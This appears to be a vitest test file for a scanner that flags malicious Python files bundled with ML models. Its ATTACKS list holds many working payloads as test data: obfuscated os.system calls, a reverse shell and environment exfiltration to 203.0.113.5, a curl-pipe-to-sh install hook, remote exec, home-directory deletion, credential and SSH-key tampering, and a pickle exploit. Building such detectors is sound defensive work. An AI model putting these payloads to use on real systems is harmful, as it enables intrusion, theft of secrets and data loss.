import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { scanBytes } from "../../core/scan-bytes.js";
import { cpuTime } from "../../testing/cpu-time.js";

const verdict = (code: string, name = "modeling.py"): string => scanBytes(Buffer.from(code), name).verdict;

// Every line below was run by CPython 3.11, with a harmless command, and took effect on import.
const ATTACKS = [
  "import os as o\no.system('id')",
  "from os import *\nsystem('id')",
  "from os import system as s\ns('echo pwned')",
  "__import__('o'+'s').__dict__['sys'+'tem']('id')",
  "getattr(__import__('so'[::-1]),'metsys'[::-1])('id')",
  "from importlib import import_module as m\nm('sub'+'process').call('id',shell=True)",
  "from base64 import b64decode as d\nexec(d('aW1wb3J0IG9z').decode())",
  "exec(''.join(map(chr,[105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41])))",
  "exec(bytes([b^7 for b in b'nju']))\nimport os\nos.popen('id')",
  "import codecs\nexec(codecs.decode('vzcbeg bf','rot13'))",
  "exec('imXXport oXXs;os.syXXstem(\"id\")'.replace('XX',''))",
  "def g():\n  import os\n  return os.popen('id').read()\ndef f(): print(g())\nX=f()",
  "import os\nclass A:\n  def __init__(self):\n    os.system('id')\nA()",
  "import os\ndef f(x=os.system('id')): pass",
  "@print\n@eval\n@lambda f:\"__import__('os').system('id')\"\nclass x: pass",
  "(lambda: __import__('os').system('id'))()",
  "import os\nlist(map(os.system,['id']))",
  "import os,threading\ndef f(): os.system('id')\nthreading.Thread(target=f).start()",
  "import os\nos.\\\nsystem('id')",
  "import builtins\nbuiltins.__dict__['ex'+'ec'](\"import os;os.system('id')\")",
  "import random\nrandom._os.system('id')",
  "import os\nx=f\"{os.system('id')}\"",
  "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close']",
  "import os\nos.\uff53ystem('id')",
  "import os\nclass M(type):\n  def __new__(c,n,b,d):\n    os.system('id'); return type.__new__(c,n,b,d)\nclass A(metaclass=M): pass",
  "import torch.nn as nn, os\nclass Net(nn.Module):\n  def forward(self, x):\n    os.system('id')\n    return x",
  "import ctypes\nctypes.CDLL(None).system(b'id')",
  "import timeit\ntimeit.timeit(\"__import__('os').system('id')\",number=1)",
  "#!/usr/bin/python\n# coding: utf_7\nx = 1",
  "import socket,os,pty\ns=socket.socket();s.connect(('203.0.113.5',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
  "import requests,os\nrequests.post('http://203.0.113.5', json=dict(os.environ))",
  "from setuptools import setup\nfrom setuptools.command.install import install\nclass P(install):\n  def run(self):\n    import os\n    os.system('curl http://203.0.113.5/a | sh')\nsetup(cmdclass={'install': P})",
  "import sys\nfor k, v in sys.modules.items():\n  if k == 'o' + 's':\n    for n in dir(v):\n      if n == 'sys' + 'tem':\n        v.__dict__[n]('id')",
  "import sys\nf = [v for k, v in vars(sys.modules['posix']).items() if len(k) == 6 and k[::2] == 'sse'][0]\nf('id')",
  "try:\n  raise ZeroDivisionError\nexcept Exception as e:\n  g = e.__traceback__.tb_frame.f_builtins\n  k = [x for x in g if x.startswith('ex') and len(x) == 4 and x[2] == 'e'][0]\n  g[k]('import os')",
  "class M(type):\n  def __init__(cls, *a):\n    import os\n    os.system('id')\nclass B(metaclass=M): pass",
  "class A:\n  def __class_getitem__(cls, k):\n    import os\n    os.system(k)\nA['id']",
  "class D:\n  def __add__(self, o):\n    import os\n    os.system('id')\nD() + 1",
  "def f():\n  import os\n  os.system('id')\nlist(map(lambda x: x(), [f]))",
  "__import__('os.path').system('id')",
  "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
  "import os\nkey = open(os.path.expanduser('~/.aws/credentials')).read()",
  "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, 2)",
  "import pathlib\npathlib.Path.home().joinpath('.ssh/authorized_keys').write_text('ssh-rsa AAAA')",
  "from pathlib import Path\nwith (Path.home() / '.bashrc').open('a') as f: f.write('id')",
  "from pathlib import Path\np = Path('~/.ssh', 'authorized_keys').expanduser()\nopen(p, 'a').write('ssh-rsa AAAA')",
  "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import os; os.system(\"id\")'])",
  "import os, http.client, json\nc = http.client.HTTPConnection('203.0.113.5')\nc.request('POST', '/', json.dumps(dict(os.environ)))",
  "from urllib.request import urlopen\ndef get(u): return urlopen(u).read()\nexec(get('http://203.0.113.5/p'))",
  "import pickle, io\npickle.load(io.BytesIO(b'cos\\nsystem\\n(S\\'id\\'\\ntR.'))",
  "__import__('os.path', fromlist=['os']).os.system('id')",
  "__import__('importlib.util').import_module('os').system('id')",
  "__import__('builtins').exec(__import__('urllib.request').request.urlopen('http://203.0.113.5/p').read())",
];

// What honest files beside models do. None of it may be a signal.
const HONEST = [
  "import shutil, os\nshutil.rmtree(os.path.expanduser('~/.cache/model'), ignore_errors=True)",
  "import os\nCACHE = os.path.expanduser('~/.cache')\nwith open(os.path.expanduser('~/.config/x.json')) as f: x = f.read()",
  "import subprocess\ndef version():\n    return subprocess.check_output(['git', 'rev-parse', 'HEAD'])\nX = version()",
  "import subprocess, os\nsubprocess.run('pip install flash-attn --no-build-isolation', env={**os.environ, 'A': '1'}, shell=True)",
  "import os\nos.system('pip install -q gradio==4.0')\nos.system('wget https://example.org/model.pth -O model.pth')",
  "exec(open('configurator.py').read())",
  "from pathlib import Path\nCACHE = Path.home() / '.cache' / 'models'\n(CACHE / 'index.txt').write_text('a')\nx = (Path.home() / '.bashrc').exists()",
  "from pathlib import Path\nns = {}\nexec(Path('pkg/version.py').read_text(), ns)",
  "import requests\nfrom PIL import Image\nimage = Image.open(requests.get('https://example.org/a.png', stream=True).raw)",
  "import os, requests\nrequests.post('https://api.example.org', headers={'Authorization': f\"Bearer {os.environ['HF_TOKEN']}\"}, json={'a': 1})",
  "import socket\nhost = socket.gethostbyname(socket.gethostname())",
  "import os\nif __name__ == '__main__':\n    os.system('convert.sh')",
  "class Trainer:\n    def run(self, cmd):\n        import subprocess\n        subprocess.Popen(cmd, shell=True)",
  "import pickle\nwith open('vocab.pkl', 'rb') as f:\n    vocab = pickle.load(f)",
  '"""os.system(1)"""\nx = 1  # os.system(1)\n',
  "model.eval()\nimport re\npattern = re.compile('a')",
  "import os, ctypes\nos.environ['A'] = 'b'\nos.makedirs('x', exist_ok=True)\nlib = ctypes.CDLL('libcudart.so')",
  "import sys\nfor name, module in list(sys.modules.items()):\n  if name.startswith('a') and hasattr(module, 'clear'):\n    module.clear()",
  "import sys\nname = sys._getframe(1).f_globals.get('__name__', '__main__').lower()",
  "import sys\nd = {'a': sys._getframe(0).f_globals['__name__']}\nd.update(b=1)",
  "import socket, subprocess\ndef port():\n  with socket.socket() as s:\n    s.bind(('', 0))\n    return s.getsockname()[1]\ndef check(): subprocess.Popen(['nc', '-l', str(port())])",
  "import os, socket\ndef pair(): return socket.socketpair()\ndef f():\n  a, b = pair()\n  os.dup2(a.fileno(), b.fileno())",
  "import builtins\ndef find(name): return getattr(builtins, name)\nclass C:\n  def __init__(self, name): self.v = find(name)()\nC('int')",
  "import os\ndef prepare(d):\n  with open(os.path.join(d, 'sitecustomize.py'), 'w') as f: f.write('import site')",
  "import subprocess, sys\nx = subprocess.check_output([sys.executable, '-c', 'import numpy; print(numpy.__version__)'])",
  "import subprocess\nclass Base:\n  def __init__(self):\n    subprocess.Popen('x')\nclass Child(Base): pass",
];

describe("Python beside a model", () => {
  it.each(ATTACKS)("alarms at %s", (code) => expect(verdict(code)).toBe("malicious"));
  it.each(HONEST)("lets %s pass", (code) => expect(verdict(code)).toBe("clean"));
  it("reads a file that its author saved in UTF-16 or with a mark", () => {
    expect(verdict("\ufeffimport os\nos.system('id')")).toBe("malicious");
  });
  it("has an answer for any text", () => {
    const piece = fc.constantFrom(
      "def f(",
      "):",
      "\n",
      "  ",
      "(",
      ")",
      "[",
      "x",
      "=",
      "'",
      '"""',
      "f'{",
      "}",
      "lambda",
      ":",
      "import a",
      "class A",
      "@",
      ",",
      "if",
      "1",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        const { findings } = scanBytes(Buffer.from(pieces.join(" ")), "a.py");
        expect(findings.map(({ rule }) => rule)).not.toContain("parser-failed");
      }),
    );
  });
  const MANY = [
    Array.from({ length: 20_000 }, (_, at) => `def f_${at}(): f_${at + 1}()\n`).join(""),
    `${Array.from({ length: 20_000 }, (_, at) => `def f_${at}():\n  f_${at + 1}()\n`).join("")}f_0()\n`,
    "a=a+a\n".repeat(50_000),
    `a=[1]\n${"a=[a,a]\n".repeat(60)}f(a)\n`,
  ];
  it.each(MANY.map((one) => [one.slice(0, 40), one] as const))("is through with %j in time", (_, code) => {
    const start = cpuTime();
    expect(verdict(code)).toBe("clean");
    expect(cpuTime() - start).toBeLessThan(3_000);
  });
});
